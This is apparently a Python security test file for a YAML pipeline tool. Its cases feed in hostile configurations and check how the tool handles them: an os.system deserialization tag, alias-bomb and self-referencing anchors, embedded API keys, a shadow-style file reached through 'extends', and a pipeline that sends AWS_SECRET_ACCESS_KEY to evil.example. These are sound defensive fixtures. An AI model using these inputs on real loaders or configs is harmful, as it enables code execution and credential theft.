"""YAML from strangers: pipelines, collections, lists of downloads, trainings, values of ``--set``."""

from __future__ import annotations

from hostile import PIPELINE, case


def mine(rest: str) -> dict[str, str]:
    return {"mine.yaml": f"{PIPELINE}metadata: {rest}"}


FAULTS = {
    "a key twice": ("{x: 1, x: 2}\n", "duplicate key 'x'"),
    "a list as a key": ("{[x]: 1}\n", "unhashable key"),
    "an object of Python's": (
        "!!python/object/apply:os.system [true]\n",
        "could not determine a constructor for the tag",
    ),
    "a month 99": ("{x: 2024-99-99}\n", "month"),
    "a thousand brackets": ("[" * 1000, "nested too deeply"),
}


SECRET = "sk-0815"
SECRETS = {
    "in metadata": "metadata: {api_key: sk-0815}\n",
    "in a station": "stations: {rewriter: {api_key: sk-0815}}\n",
    "deep in a station": "stations: {rewriter: {component: {init_parameters: {headers: {Authorization: sk-0815}}}}}\n",
    "in a list": "stations: {rewriter: {basic_auth: [me, sk-0815]}}\n",
    "in a URL": "stations: {rewriter: {url: 'https://me:sk-0815@host/'}}\n",
    "in what is no component": "stations: {builder: {component: {api_key: sk-0815}}}\n",
}
COMMANDS = ("check mine.yaml", "show mine.yaml", "show mine.yaml --as yaml", "run qrecc out --pipeline mine.yaml")

CASES = [
    *(case(name, "check mine.yaml", mine(rest), says=("mine.yaml", said)) for name, (rest, said) in FAULTS.items()),
    *(
        case(
            f"a secret {where}: {command}", command, {"mine.yaml": PIPELINE + text},
            says="secrets are not allowed in a pipeline", hides=SECRET,
        )
        for where, text in SECRETS.items() for command in (COMMANDS if where == "in a station" else COMMANDS[:1])
    ),
    case(
        "a secret with --set", "show default --as yaml --set rewriter.api_key=sk-0815",
        says="--set rewriter.api_key: secrets are not allowed in a pipeline", hides=SECRET,
    ),
    case(
        "--set with nine levels of aliases",
        "show copy-bm25 --set 'retriever.k1={" + laughs(9, "").replace("\n", ", ") + "}'",
        says=TOO_MUCH,
    ),
    case(
        "--set of what contains itself", "show copy-bm25 --set 'retriever.k1=&m {x: *m}'",
        says="the alias *m is inside its own anchor",
    ),
    case(
        "extends a file that is no pipeline", "check mine.yaml",
        {"mine.yaml": "extends: ./shadow\n", "shadow": "admin:$6$hash:19000\n\tdaemon: [\n"},
        says=("mine.yaml", "ends in .yaml"), hides=("admin", "daemon"),
    ),
    case(
        "extends YAML that is none", "check mine.yaml",
        {"mine.yaml": "extends: ./shadow.yaml\n", "shadow.yaml": "admin:$6$hash:19000\n\tdaemon: [\n"},
        says=("shadow.yaml", "line 2, column 1"), hides=("admin", "daemon"),
    ),
    case(
        "a stranger's pipeline", "check mine.yaml",
        {"mine.yaml": (
            "extends: generative\nstations: {builder: {component: {init_parameters: {\n"
            "  api_base_url: https://evil.example, api_key: {env_vars: [AWS_SECRET_ACCESS_KEY]}}}}}\n"
        )},
        exits=0, says=("reads from the environment: AWS_SECRET_ACCESS_KEY", "sends to: https://evil.example"),
    ),
    case(
        "a path into what has no parts", "check poleval --set retriever.top_k.x.y=1",
        says="retriever.top_k is 10, which has no part 'x'",
    ),
    case("a path of dots", "check default --set retriever....=1", says="--set retriever....: expected the station"),
    case(
        "a path of a thousand parts", "check default --set retriever." + "x." * 999 + "x=1", exits=2, says="retriever.x"
    ),
]  # fmt: skip


def test_yaml(hostile, check):
    check(hostile)
